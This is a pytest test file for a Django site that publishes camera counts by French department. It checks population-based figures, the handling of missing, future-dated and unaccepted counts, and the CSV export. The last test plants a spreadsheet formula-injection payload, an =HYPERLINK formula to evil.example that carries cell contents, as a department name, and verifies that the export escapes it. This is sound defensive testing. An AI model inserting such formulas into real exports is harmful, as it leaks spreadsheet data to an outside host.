"""The departments' figures, as a researcher comparing departments reads them, attacked
(session 58d): a department whose only count is an arrondissement's, a commune of no
inhabitant, a count dated after today, counts not yet accepted, a department with no
count at all (not "0"), and the CSV's cells."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from contrechamp.places.models import Commune, Department
from contrechamp.registry.figures import commune_figures, department_figures
from contrechamp.registry.models import CameraCount
from contrechamp.registry.services import camera_count_create

pytestmark = pytest.mark.django_db

CITATION = [{"source": {"title": "Rapport", "url": "https://example.org/r"}, "quote": ""}]


def _count(code: str, n: int, date: str) -> CameraCount:
    return camera_count_create(
        commune_code=code, count=n, date=date, citations=CITATION, author=None
    )


def _figures(code: str):
    return department_figures(Department.objects.get(code=code))[0]


def _csv(client) -> dict[str, dict[str, str]]:
    response = client.get("/exports/departements.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.content
    assert not body.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    return {row["department_code"]: row for row in rows}


def _row_of(html: str, code: str) -> str:
    """The departments' list's row of the department `code`."""
    start = html.index(f'href="/departements/{code}/"')
    return html[start : html.index("</tr>", start)]


def test_it_gives_a_departments_population_area_and_density_from_its_communes():
    _count("04088", 12, "2023")  # Forcalquier: 5,222 inhabitants, 43.3 km²
    f = _figures("04")
    communes = Commune.objects.filter(department__code="04", parent__isnull=True)
    assert f.communes == communes.count()
    assert f.population == sum(c.population or 0 for c in communes)
    assert f.area_km2 == pytest.approx(sum(c.area_km2 or 0 for c in communes))
    assert (f.cameras, f.communes_counted, f.population_counted) == (12, 1, 5222)
    # Over the inhabitants and the area of the commune counted, not the department's.
    assert f.per_1000 == pytest.approx(12 * 1_000 / 5222)
    assert f.per_km2 == pytest.approx(12 / 43.3)
    assert f.population_share == pytest.approx(5222 / f.population)
    assert (f.earliest_date, f.latest_date) == ("2023", "2023")


def test_a_city_counts_once_in_its_department_with_its_latest_count():
    _count("06088", 4000, "2024")  # Nice: the demo's 2,030 of 2018, then this
    _count("06088", 3000, "2022")  # older: not the latest
    f = _figures("06")
    assert (f.cameras, f.communes_counted, f.latest_date) == (4000, 1, "2024")
    paris = _figures("75")
    _count("75101", 50, "2024")  # one arrondissement of 20, Paris's own 1,000 stays
    assert (_figures("75").cameras, _figures("75").communes_counted) == (
        paris.cameras,
        paris.communes_counted,
    )


def test_a_department_whose_only_count_is_an_arrondissements(client):
    assert _figures("69").cameras is None
    _count("69381", 30, "2022")  # Lyon 1er, 28,717 inhabitants; Lyon has no count
    f = _figures("69")
    assert (f.cameras, f.communes_counted) == (30, 1)  # Lyon, once
    # Its inhabitants are the arrondissement's, not Lyon's 519,127: the density is not
    # diluted by eight arrondissements nobody counted, nor the coverage inflated.
    assert f.population_counted == 28717
    assert f.per_1000 == pytest.approx(30 * 1_000 / 28717)
    assert f.per_km2 is None  # an arrondissement has no area in the places' data
    # Lyon's own page says the same: 30 cameras for the 1er's inhabitants.
    lyon = commune_figures(Commune.objects.get(code="69123"))
    assert lyon.per_1000 == pytest.approx(30 * 1000 / 28717) and lyon.per_km2 is None
    row = _row_of(client.get("/departements/").content.decode(), "69")
    assert "aucun chiffre connu" not in row and ">30<" in row
    page = client.get("/departements/69/").content.decode()
    assert "aucun chiffre connu" not in page
    assert _csv(client)["69"]["cameras"] == "30"
    assert _csv(client)["69"]["population_counted"] == "28717"


def test_a_commune_of_no_inhabitant_has_cameras_but_no_figure_per_inhabitant(client):
    _count("55189", 4, "2024")  # Fleury-devant-Douaumont: population 0
    f = _figures("55")
    assert (f.cameras, f.communes_counted, f.per_1000) == (4, 1, None)
    assert f.per_km2 == pytest.approx(4 / 10.38)
    html = client.get("/departements/55/").content.decode()
    assert 'class="per-1000">—<' in html
    assert _csv(client)["55"]["cameras_per_1000_inhabitants"] == ""
    # Beside an inhabited commune, its cameras count in the total, not per inhabitant.
    _count("55029", 10, "2024")  # Bar-le-Duc, 14,607 inhabitants
    f = _figures("55")
    assert f.cameras == 14
    assert f.per_1000 == pytest.approx(10 * 1_000 / 14607)


def test_a_count_dated_after_today_is_in_no_department_figure(client):
    tomorrow = timezone.localdate() + dt.timedelta(days=1)
    # Refused when entered...
    with pytest.raises(ValidationError):
        _count("15014", 99, tomorrow.isoformat())
    # ...and one stored before the refusal existed is never the latest.
    aurillac = Commune.objects.get(code="15014")
    CameraCount.objects.create(commune=aurillac, count=900, date="2042")
    assert _figures("15").cameras is None
    assert "aucun chiffre connu" in _row_of(client.get("/departements/").content.decode(), "15")
    _count("15014", 20, "2023")
    f = _figures("15")
    assert (f.cameras, f.latest_date) == (20, "2023")
    assert _csv(client)["15"]["latest_count_date"] == "2023"


@pytest.mark.parametrize("state", ["pending", "rejected", "withdrawn"])
def test_a_count_not_accepted_is_in_no_department_figure(client, state):
    aurillac = Commune.objects.get(code="15014")
    CameraCount.all_objects.create(commune=aurillac, count=77, date="2024", state=state)
    assert _figures("15").cameras is None
    assert _csv(client)["15"]["cameras"] == ""
    assert "77" not in _row_of(client.get("/departements/").content.decode(), "15")


def test_no_figure_known_is_not_a_count_of_zero(client):
    html = client.get("/departements/").content.decode()
    # Haute-Savoie: no count. It said "0" (its deployments), read as "no camera".
    assert "aucun chiffre connu" in _row_of(html, "74")
    page = client.get("/departements/74/").content.decode()
    assert "aucun chiffre connu" in page
    assert _csv(client)["74"]["cameras"] == ""
    # A real count of 0 is a figure.
    _count("74010", 0, "2024")  # Annecy
    assert _figures("74").cameras == 0
    html = client.get("/departements/").content.decode()
    assert "aucun chiffre connu" not in _row_of(html, "74")
    assert _csv(client)["74"]["cameras"] == "0"
    page = client.get("/departements/74/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "no figure known" not in page


def test_the_pages_say_how_complete_the_figures_are(client):
    html = client.get("/departements/").content.decode()
    assert "Un comptage de caméras est connu dans 2 départements sur 109" in html
    assert 'href="/exports/departements.csv"' in html
    page = client.get("/departements/06/").content.decode()
    assert "1 sur 163" in page  # communes with a count
    assert "des habitants" in page
    english = client.get("/departements/06/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "1 of 163" in english and "Cameras per 1,000 inhabitants" in english


def test_the_csv_has_the_dates_and_the_coverage_and_no_formula(client):
    department = Department.objects.get(code="04")
    department.name = '=HYPERLINK("https://evil.example/?"&A1)'
    department.save()
    _count("04088", 12, "2023-05")
    response = client.get("/exports/departements.csv")
    header = response.content.decode().splitlines()[0]
    assert header.split(",")[:3] == ["department_code", "department", "region"]
    rows = _csv(client)
    assert len(rows) == Department.objects.count()
    row = rows["04"]
    assert row["department"].startswith("'=")
    assert (row["cameras"], row["communes_counted"], row["population_counted"]) == (
        "12",
        "1",
        "5222",
    )
    assert (row["earliest_count_date"], row["latest_count_date"]) == ("2023-05", "2023-05")
    assert float(row["population_counted_share"]) == pytest.approx(
        5222 / _figures("04").population, abs=1e-4
    )
    assert float(row["cameras_per_1000_inhabitants"]) == pytest.approx(12 * 1_000 / 5222, abs=0.01)
